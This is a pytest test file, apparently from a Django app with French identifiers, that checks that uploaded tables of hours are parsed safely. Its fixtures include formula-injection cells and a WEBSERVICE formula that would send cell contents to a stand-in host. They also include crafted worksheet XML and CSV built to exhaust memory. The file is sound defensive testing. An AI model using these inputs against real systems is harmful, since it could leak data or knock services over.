"""Tables of hours as nobody should send them: a fault keeps to its line, memory stays bounded (B12)."""

from __future__ import annotations

import io
import resource
import zipfile
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile

from participants.models import Participant
from plie.socle.erreurs import ErreurMetier
from plie.socle.lecture_csv import SourceCsv
from sorties.fichier_heures import COLONNES_MAX, RANGEES_MAX, rangees_du_fichier
from sorties.reprise import importer
from sorties.tableau_heures import TableauLu, lire_tableau

JANVIER, FEVRIER, MARS = (date(2026, mois, 1) for mois in (1, 2, 3))
NOMBRE = "n’est pas un nombre positif"


def lire(contenu: bytes) -> TableauLu:
    return lire_tableau(rangees_du_fichier(SimpleUploadedFile("tableau", contenu)))


def classeur(ecrire: Callable[[Any, Any], Any]) -> bytes:
    tampon = io.BytesIO()
    with xlsxwriter.Workbook(tampon) as livre:
        ecrire(livre, livre.add_worksheet())
    return tampon.getvalue()


def simple(_livre: Any, feuille: Any) -> None:
    feuille.write_row(0, 0, ["Mois", "A"])
    feuille.write_row(1, 0, ["01/2026", 100])


def prolonge(rangees: bytes) -> bytes:
    """The simple workbook, with rows that no spreadsheet would have written."""
    tampon = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(classeur(simple))) as lu, zipfile.ZipFile(tampon, "w", zipfile.ZIP_DEFLATED) as mis:
        for membre in lu.namelist():
            contenu = lu.read(membre)
            if membre == "xl/worksheets/sheet1.xml":
                contenu = contenu.replace(b"</sheetData>", rangees + b"</sheetData>")
            mis.writestr(membre, contenu)
    return tampon.getvalue()


def test_un_guillemet_egare_ne_refuse_que_sa_ligne() -> None:
    lu = lire(b'Mois;A\n01/2026;"100\n02/2026;50\n03/2026;20\n')
    assert lu.valeurs == {("A", FEVRIER): Decimal(50), ("A", MARS): Decimal(20)}
    assert [(ligne, NOMBRE in raison) for ligne, raison in lu.fautes] == [('01/2026 ; "100', True)]


def test_une_cellule_citee_sur_deux_lignes_reste_une_cellule() -> None:
    assert lire(b'Mois;"Agence\nSud"\n01/2026;"1,5"\n').valeurs == {("Agence Sud", JANVIER): Decimal("1.5")}


@pytest.mark.parametrize(
    ("contenu", "gardees", "fautives"),
    [
        (b"Mois;A;A\n01/2026;1;2\n", 1, ["01/2026 ; 1 ; 2"]),
        (b"Mois;A;B\n100;01/2026;3\n02/2026;4;5\n", 2, ["100 ; 01/2026 ; 3"]),
        (b"Mois;A\n01/2026;1\n" + "été;2\n".encode("cp1252"), 1, ["été ; 2"]),
        (b"Mois;A\n01/2026;=1+1\n02/2026;@SUM(A1)\n", 0, ["01/2026 ; =1+1", "02/2026 ; @SUM(A1)"]),
    ],
    ids=["titres en double", "colonne décalée", "deux encodages", "formules"],
)
def test_une_faute_est_dite_avec_sa_ligne(contenu: bytes, gardees: int, fautives: list[str]) -> None:
    lu = lire(contenu)
    assert (len(lu.valeurs), [ligne for ligne, _ in lu.fautes]) == (gardees, fautives)


def test_deux_exports_mis_bout_a_bout_se_lisent_chacun_dans_son_encodage(tmp_path: Path) -> None:
    """UTF-8 above, Windows-1252 below: read whole as one or the other, half of the names would be spoilt in silence."""
    entete = "identifiant;nom;date_naissance;sexe\n"
    lignes = ("A;Éloïse;1985-04-12;F\n".encode(), "B;Gaëlle-Inès;1985-04-12;F\n".encode("cp1252"))
    attendu = [["A", "Éloïse", "1985-04-12", "F"], ["B", "Gaëlle-Inès", "1985-04-12", "F"]]
    source = SourceCsv("participants", lambda: io.BytesIO(entete.encode() + b"".join(lignes)))
    source.entete()
    assert [ligne.cellules for ligne in source.lignes()] == attendu
    heures = "Mois;Établissement\n".encode() + "févr. 2026;2\n".encode("cp1252")
    assert lire(heures).valeurs == {("Établissement", FEVRIER): Decimal(2)}


@pytest.mark.django_db
def test_un_classeur_de_reprise_avec_formules_liens_et_fusions(tmp_path: Path) -> None:
    """The last value of a formula is what was seen; what a merged cell hides is missing, and said with its line."""
    chemin = tmp_path / "reprise.xlsx"
    with xlsxwriter.Workbook(str(chemin)) as livre:
        feuille = livre.add_worksheet("participants")
        feuille.write_row(0, 0, ["identifiant", "nom", "date_naissance", "sexe"])
        feuille.write_row(1, 0, ["A", "", "1985-04-12", "F"])
        feuille.write_formula(1, 1, "='[autre.xlsx]F'!B2", value="DURAND")
        feuille.write_row(2, 0, ["B", "PETIT", "", "F"])
        feuille.merge_range(2, 1, 2, 2, "PETIT")
    bilan = importer(chemin)
    assert [(rejet.ligne, rejet.colonne) for rejet in bilan.rejets] == [(3, "date_naissance")]
    assert not Participant.objects.exists(), "une faute, et rien n’est écrit"
    assert importer(chemin, partiel=True).ecrit
    assert list(Participant.objects.values_list("nom", flat=True)) == ["DURAND"]


def _formule(_livre: Any, feuille: Any) -> None:
    feuille.write_row(0, 0, ["Mois", "A"])
    feuille.write(1, 0, "01/2026")
    feuille.write_formula(1, 1, '=WEBSERVICE("http://ailleurs.example/"&A1)', value=7)


def _lien_externe(_livre: Any, feuille: Any) -> None:
    feuille.write_row(0, 0, ["Mois", "A"])
    feuille.write(1, 0, "01/2026")
    feuille.write_formula(1, 1, "='[autre.xlsx]Feuille'!A1", value=7)


def _fusion(_livre: Any, feuille: Any) -> None:
    feuille.write_row(0, 0, ["Mois", "A", "B"])
    feuille.write(1, 0, "01/2026")
    feuille.merge_range(1, 1, 1, 2, 7)


@pytest.mark.parametrize("ecrire", [_formule, _lien_externe, _fusion])
def test_d_un_classeur_on_lit_ce_qui_s_y_voyait(ecrire: Any) -> None:
    """A formula's last value, a merged cell once: nothing is computed here, and nothing is asked elsewhere."""
    assert lire(classeur(ecrire)).valeurs == {("A", JANVIER): Decimal(7)}


def test_une_rangee_vide_tout_en_bas_ne_coute_rien() -> None:
    bas = b'<row r="1048576"><c r="A1048576" s="0"/></row>'
    assert lire(prolonge(bas)).valeurs == {("A", JANVIER): Decimal(100)}


@pytest.mark.parametrize(
    ("contenu", "attendu"),
    [
        (prolonge(b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>'), "trop étendue"),
        (prolonge(b'<row r="3"><c r="XFD3"><v>1</v></c></row><row r="900"><c r="A900"><v>1</v></c></row>'), "étendue"),
        (b"Mois;A\n" + b";\n" * 300_000, f"{RANGEES_MAX}\u00a0lignes au plus"),
        (b"Mois" + b";A" * 400_000, f"{COLONNES_MAX}\u00a0colonnes au plus"),
        (b"Mois;A\n" + b'"\n' * 300_000, f"{RANGEES_MAX}\u00a0lignes au plus"),
    ],
    ids=["tout en bas", "tout à droite", "lignes", "colonnes", "guillemets"],
)
def test_un_tableau_sans_mesure_est_refuse_sans_remplir_la_memoire(contenu: bytes, attendu: str) -> None:
    avant = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(ErreurMetier, match=attendu) as refus:
        rangees_du_fichier(SimpleUploadedFile("tableau", contenu))
    assert refus.value.champ == "fichier"
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - avant < 100 * 1024, "kilo-octets"
